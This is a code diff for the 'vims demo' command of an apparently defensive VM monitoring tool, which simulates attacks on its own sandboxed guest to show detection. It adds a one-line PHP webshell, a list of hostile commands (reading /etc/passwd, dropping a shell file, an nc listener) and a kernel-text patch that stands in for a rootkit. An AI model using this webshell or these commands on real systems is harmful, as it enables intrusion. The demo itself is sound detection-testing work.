@@ -1,17 +1,20 @@
-"""``vims demo``: the main job, end to end, on the bundled guest.
+"""``vims demo``: the main job, end to end, on the Debian guest (``--image mini``: the busybox guest).
 
 The story, each step with a deadline:
 
 1. build the guest image (cached) and start REM-S with a protected service, its gate on the loopback
-   port the guest's client line is mapped to;
-2. boot the guest and learn its normal behaviour: trace it while its workload runs and fit a
-   per-program model set (cached beside the image for later runs);
+   port the guest's client reaches (Debian: a TCP connection to an intranet address that QEMU's
+   ``guestfwd`` maps there; busybox: a serial line);
+2. boot the guest and learn its normal behaviour: trace it while its workload runs (Debian: the
+   small-server workload of :mod:`vims.collector.guest.workload`) and fit a per-program model set
+   (cached beside the image for later runs);
 3. start the A-VM agent (tracer, scorer workers, static checks) reporting to REM-S; the guest's client
    connects through REM-S and is let through;
-4. the ``webshell`` scenario: the web server runs a shell that reads ``/etc/shadow``, drops a file and
-   starts a listener; the behaviour score falls, REM-S cuts the connection and refuses new ones;
-5. kernel text is patched from outside (through the guest's RAM, standing in for a rootkit):
-   ``kernel-text`` fails and connections stay refused.
+4. a webshell: the web server runs a shell (Debian: a PHP file planted in the site, driven over HTTP
+   from the host: ``id``, ``/etc/passwd``, a dropped file, a listener; busybox: its ``webshell``
+   scenario); the behaviour score falls, REM-S cuts the connection and refuses new ones;
+5. kernel text is patched from outside (through the guest's RAM at the address KASLR put it,
+   standing in for a rootkit): ``kernel-text`` fails and connections stay refused.
 
 It ends with a summary (``--json`` for scripts) and a report folder: ``timeline.png``, ``index.html``,
 ``summary.json``, ``reports.jsonl`` and ``decisions.json``.
@@ -100,6 +103,73 @@ def _decisions(db: Path) -> list[dict[str, Any]]:
         store.close()
 
 
+#: The Debian demo's webshell: what the attacker's requests run through the planted PHP file.
+WEBSHELL_PHP = "<?php header('Content-Type: text/plain'); system($_GET['c'] ?? 'id'); ?>\n"
+WEBSHELL_PATH = "/var/www/html/uploads/thumb.php"
+WEBSHELL_COMMANDS = ("id", "uname -a", "cat /etc/passwd", "ls -la /var/www /home",
+                     "echo 'sh -i' > /tmp/.x && chmod +x /tmp/.x", "nc -l -p 4444 </dev/null >/dev/null 2>&1 &",
+                     "ps aux")
+
+
+def _normal_workload(guest: Any, stop: threading.Event, failures: list[str]) -> None:
+    """The guest's normal life while it is learned: its own jobs, plus requests from the host."""
+    if guest.kind == "debian":
+        from vims.collector.guest.workload import Workload
+
+        seed = 0
+        while not stop.is_set():  # the workload in rounds, so it ends soon after ``stop``
+            done = Workload(guest, seed=seed, rate=1.0).run(10.0)
+            # The gate refuses the client until the A-VM reports: not a failure of normal life.
+            failures.extend(f"{r.action.kind}: {r.error}" for r in done.results
+                            if not r.ok and r.action.kind != "gate-client")
+            seed += 1
+        return
+    while not stop.wait(3.0):
+        try:
+            guest.scenario("normal", timeout=30)
+        except VimsError as exc:
+            failures.append(str(exc))
+
+
+def _webshell(guest: Any) -> str:
+    """The attack: a shell run by the web server (see :data:`WEBSHELL_COMMANDS`); one line on what it did."""
+    if guest.kind != "debian":
+        return str(guest.scenario("webshell", timeout=120))
+    import shlex
+    import urllib.parse
+    import urllib.request
+
+    # Planted as an upload would be (the site's upload folder is served and runs PHP like any other).
+    guest.run(f"mkdir -p {os.path.dirname(WEBSHELL_PATH)} && printf %s {shlex.quote(WEBSHELL_PHP)} > "
+              f"{WEBSHELL_PATH} && chown -R www-data: {os.path.dirname(WEBSHELL_PATH)}", check=True)
+    host, port = guest.http_address
+    url = f"http://{host}:{port}/{WEBSHELL_PATH.removeprefix('/var/www/html/')}"
+    answers = []
+    for command in WEBSHELL_COMMANDS:
+        with urllib.request.urlopen(f"{url}?c={urllib.parse.quote(command)}", timeout=120) as resp:
+            answers.append(resp.read().decode(errors="replace"))
+    return f"webshell ran {len(WEBSHELL_COMMANDS)} commands as {answers[0].split()[0] if answers[0] else '?'}"
+
+
+def _start_client(guest: Any) -> None:
+    """The Debian guest's client software: a connection to the protected service through the gate,
+    sending a line a second, reconnecting when it is cut or refused (as the busybox guest's does)."""
+    if guest.kind != "debian":
+        return  # the busybox guest's client runs from its init
+    from vims.collector.guest.qemu import GATE_GUEST_ADDRESS
+
+    host, port = GATE_GUEST_ADDRESS
+    loop = (f"while :; do (while :; do echo ping; sleep 1; done) | nc {host} {port} >> /var/log/vims-client.log "
+            f"2>&1; sleep 2; done")
+    guest.run(f"setsid nohup sh -c {_quote(loop)} </dev/null >/dev/null 2>&1 &", check=True)
+
+
+def _quote(text: str) -> str:
+    import shlex
+
+    return shlex.quote(text)
+
+
 def _learn_normal(guest: Any, image: Any, capture_s: float, refit: bool) -> Path:
     """A per-program model set of the guest's normal behaviour, cached beside the image."""
     from vims.collector.backends import QemuBackend
@@ -118,15 +188,8 @@ def _learn_normal(guest: Any, image: Any, capture_s: float, refit: bool) -> Path
     stop = threading.Event()
     failures: list[str] = []
 
-    def workload() -> None:
-        # The guest's own periodic jobs run anyway; requests to its web server add the rest of normal.
-        while not stop.wait(3.0):
-            try:
-                guest.scenario("normal", timeout=30)
-            except VimsError as exc:
-                failures.append(str(exc))
-
-    driver = threading.Thread(target=workload, name="demo-normal", daemon=True)
+    driver = threading.Thread(target=_normal_workload, args=(guest, stop, failures), name="demo-normal",
+                              daemon=True)
     try:
         with QemuBackend.from_guest(guest) as backend:
             tracer = SyscallTracer(backend, VM_ID)
@@ -134,9 +197,9 @@ def _learn_normal(guest: Any, image: Any, capture_s: float, refit: bool) -> Path
             result = tracer.run(duration=capture_s)
     finally:
         stop.set()
-    driver.join(timeout=60)
+    driver.join(timeout=120)
     if failures:
-        err.print(f"[yellow]warning:[/] {len(failures)} request(s) of the normal workload failed while "
+        err.print(f"[yellow]warning:[/] {len(failures)} action(s) of the normal workload failed while "
                   f"learning; the first: {failures[0]}", highlight=False)
     if result.events.num_rows == 0:
         raise DemoStepError(f"tracing the guest for {capture_s:g} s caught no system call ({result.reason})")
@@ -152,8 +215,12 @@ def _learn_normal(guest: Any, image: Any, capture_s: float, refit: bool) -> Path
 
 def _patch_kernel_text(guest: Any, symbol: str) -> tuple[int, bytes]:
     """Flip one byte of ``symbol``'s code through the guest's RAM file; returns (offset, original byte)."""
-    address = guest.profile.symbol(symbol) + 1
-    physical = address - 0xFFFFFFFF80000000  # nokaslr: kernel text sits at VA - __START_KERNEL_map
+    from vims.collector.kernel import KernelView
+    from vims.collector.memory import PhysicalMemory
+
+    address = guest.profile.symbol(symbol) + 1  # where this boot put it (KASLR)
+    with PhysicalMemory.open(guest.memory_path) as memory:
+        physical = KernelView(memory, guest.profile).pa(address)
     with open(guest.memory_path, "r+b") as f, mmap.mmap(f.fileno(), 0) as ram:
         original = ram[physical:physical + 1]
         ram[physical:physical + 1] = bytes([original[0] ^ 0xFF])
@@ -187,9 +254,12 @@ def _live_table(timeline: Timeline, db: Path, phase: str) -> Any:
     return table
 
 
-def run_demo(output: Path, capture_s: float = 60.0, refit: bool = False, live: bool = True) -> dict[str, Any]:
-    """Play the whole story; returns the summary (also written to ``output/summary.json``)."""
+def run_demo(output: Path, capture_s: float = 60.0, refit: bool = False, live: bool = True,
+             image_kind: str = "debian") -> dict[str, Any]:
+    """Play the whole story on ``image_kind`` (``debian`` or ``mini``); returns the summary (also written
+    to ``output/summary.json``)."""
     from vims.collector.guest import Guest, build_guest
+    from vims.collector.guest.debian import build_debian
     from vims.remote.keys import AvmIdentity, ServerKeys
     from vims.remote.server import ServerThread
 
@@ -198,17 +268,21 @@ def run_demo(output: Path, capture_s: float = 60.0, refit: bool = False, live: b
                                      "(or `make demo`, which installs it)")
     output.mkdir(parents=True, exist_ok=True)
     db = output / "rems.sqlite"
-    err.print("building the guest image (cached after the first run) ...")
-    image = build_guest()
+    if image_kind not in ("debian", "mini"):
+        raise VimsError(f"--image {image_kind!r}: debian or mini")
+    err.print(f"building the {image_kind} guest image (cached after the first run) ...")
+    image = build_debian() if image_kind == "debian" else build_guest()
     keys = ServerKeys.generate()
     identity = AvmIdentity.generate(AVM_ID)
     gate_port = _enroll(db, identity)
-    summary: dict[str, Any] = {"output": str(output), "interval_s": INTERVAL_S, "policy": POLICY}
+    summary: dict[str, Any] = {"output": str(output), "image": image_kind, "interval_s": INTERVAL_S,
+                               "policy": POLICY}
     timeline: Timeline | None = None
     with ServerThread(db, keys, demo_service=True) as rems:
         err.print(f"REM-S listening; the guest's client line goes through its gate on 127.0.0.1:{gate_port}")
         with Guest.start(image, name=f"vims-demo-{os.getpid()}", gate_port=gate_port) as guest:
             model = _learn_normal(guest, image, capture_s, refit)
+            _start_client(guest)
             timeline = Timeline()
             avm = _attach_avm(model, identity, rems.server.endpoint, keys.public, guest, timeline)
             patched: list[tuple[int, bytes]] = []
@@ -290,7 +364,7 @@ def _play(guest: Any, timeline: Timeline, db: Path, show: Callable[[str], None],
 
     show("webshell: the web server runs a shell")
     attack = timeline.mark("webshell starts")
-    answer = guest.scenario("webshell", timeout=120)
+    answer = _webshell(guest)
     timeline.mark("webshell done")
     cut = _wait(lambda: decided(("cut", "deny"), attack), DEADLINES["cut"], "connection cut", view("cut"))
     timeline.mark(f"connection {cut['kind']}")
@@ -403,10 +477,12 @@ def demo(
     refit: bool = typer.Option(False, "--refit", metavar="",
                                help="Learn the normal behaviour again, ignoring the cache."),
     as_json: bool = typer.Option(False, "--json", metavar="", help="Print the summary as JSON (no live view)."),
+    image: str = typer.Option("debian", "--image", help="debian (a Debian 12 server: KASLR, 2 vCPUs, network) "
+                              "or mini (the busybox guest: quicker)."),
 ) -> None:
-    """The main job on the bundled guest: attest it, let its client through, catch a webshell and a
-    kernel patch, and cut it off. Ends with a summary and a report folder."""
-    summary = run_demo(output, capture_s=capture_s, refit=refit, live=not as_json)
+    """The main job on a guest VM: attest it, let its client through, catch a webshell and a kernel
+    patch, and cut it off. Ends with a summary and a report folder."""
+    summary = run_demo(output, capture_s=capture_s, refit=refit, live=not as_json, image_kind=image)
     if as_json:
         print_json(summary)
     else:
